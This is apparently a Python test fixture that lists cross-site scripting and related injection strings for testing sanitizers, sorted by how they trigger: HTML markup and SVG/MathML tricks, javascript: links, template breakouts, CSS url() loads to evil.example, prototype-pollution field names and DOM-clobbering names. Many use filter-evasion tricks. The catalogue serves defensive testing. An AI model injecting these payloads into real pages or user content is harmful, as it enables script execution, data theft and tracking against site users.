"""Texts that run a script, load a file elsewhere or change the program on a page that treats them as more than text.

`FIRE` is replaced by a call that tells the test. `test_hostile_texts.py` shows that each text does its harm on a page
without defences, by the way that `HOSTILE_TEXTS` names.
"""

HOSTILE_TEXTS: dict[str, tuple[str, ...]] = {
    # Written into a document.
    "markup": (
        "<script>FIRE</script>",
        "<SCRIPT>FIRE</SCRIPT>",
        "<script/x>FIRE</script>",
        "<script\n>FIRE</script\n>",
        "</script><script>FIRE</script>",
        "</style><script>FIRE</script>",
        "</title><script>FIRE</script>",
        "</textarea><script>FIRE</script>",
        "--><script>FIRE</script>",
        "]]><script>FIRE</script>",
        '"><script>FIRE</script>',
        "'><script>FIRE</script>",
        "<script type=module>FIRE</script>",
        "<script src='data:text/javascript,FIRE'></script>",
        "<img src=x onerror=FIRE>",
        "<IMG SRC=x ONERROR=FIRE>",
        "<img src=x onerror='FIRE'>",
        '<img src=x onerror="FIRE">',
        '<img/src="x"/onerror=FIRE>',
        "<img src=x\tonerror=FIRE>",
        "<img src=x\nonerror=FIRE>",
        "<img src=x\x0conerror=FIRE>",
        "<img src=x onerror=&#116;op.fire(NUMBER)>",
        "<img src=x onerror=top.\\u0066ire(NUMBER)>",
        "<img src=x onerror=eval('FIRE')>",
        "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==' onload=FIRE>",
        "<image src=x onerror=FIRE>",
        "<picture><img src=x onerror=FIRE></picture>",
        "<video><source onerror=FIRE></video>",
        "<video src=x onerror=FIRE></video>",
        "<audio src=x onerror=FIRE></audio>",
        "<object data=x onerror=FIRE></object>",
        "<link rel=stylesheet href=x onerror=FIRE>",
        "<style onload=FIRE></style>",
        "<body onload=FIRE>",
        "<body onpageshow=FIRE>",
        "<details open ontoggle=FIRE>",
        "<svg onload=FIRE>",
        "<svg/onload=FIRE>",
        "<svg><script>FIRE</script></svg>",
        "<svg><script>top.&#102;ire(NUMBER)</script></svg>",
        "<svg><animate onbegin=FIRE attributeName=x dur=1s>",
        "<svg><set onbegin=FIRE attributeName=x>",
        "<svg><image href=x onerror=FIRE></svg>",
        "<svg><style><img src=x onerror=FIRE></style></svg>",
        "<svg><foreignObject><img src=x onerror=FIRE></foreignObject></svg>",
        "<math><mtext><img src=x onerror=FIRE></mtext></math>",
        "<iframe onload=FIRE></iframe>",
        "<iframe src='javascript:FIRE'></iframe>",
        "<iframe srcdoc='<script>FIRE</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=FIRE&gt;'></iframe>",
        "<table background=x><tr><td><img src=x onerror=FIRE></table>",
        '<noscript><p title="</noscript><img src=x onerror=FIRE>">',
        '<svg></p><style><a id="</style><img src=x onerror=FIRE>">',
        "<math><annotation-xml encoding='text/html'><img src=x onerror=FIRE></annotation-xml></math>",
        "<template><script>1</script></template><img src=x onerror=FIRE>",
        "<xss style='animation:x' onanimationstart=FIRE><style>@keyframes x{}</style>",
        "<a href=x>text</a\n><img src=x onerror=FIRE>",
        '![x](x"onerror="FIRE)<img src=x onerror=FIRE>',
        "```html\n<img src=x onerror=FIRE>\n```",
        "<img src=x onerror=FIRE//\u202e>",
        "<b>\0<img src=x onerror=FIRE></b>",
    ),
    # Followed as a link.
    "link": (
        "javascript:FIRE",
        "JaVaScRiPt:FIRE",
        "java\nscript:FIRE",
        "java\tscript:FIRE",
        " javascript:FIRE",
        "\x01javascript:FIRE",
        "javascript://x%0aFIRE",
    ),
    # Taken as the text of a template or a program.
    "template": (
        "${FIRE}",
        "`+FIRE+`",
        "`,FIRE,`",
        "\\`${FIRE}",
    ),
    # Taken as a style, which then loads a file elsewhere.
    "style": (
        "background:url(http://evil.example/NUMBER)",
        "background:url('//evil.example/NUMBER')",
        "list-style:url(http://evil.example/NUMBER);display:list-item",
        "background:image-set('http://evil.example/NUMBER' 1x)",
    ),
    # Taken as the name of a field by a program that copies objects field by field.
    "field": ("__proto__", "constructor.prototype"),
    # Taken as an id or name of an element, which then hides a variable of the program.
    "name": ("hidden_by_name",),
}


def list_texts() -> list[tuple[str, str]]:
    """Returns the way and the text of each, with its number in place."""
    found: list[tuple[str, str]] = []
    for way, texts in HOSTILE_TEXTS.items():
        for text in texts:
            number = str(len(found))
            found.append((way, text.replace("FIRE", f"top.fire({number})").replace("NUMBER", number)))
    return found
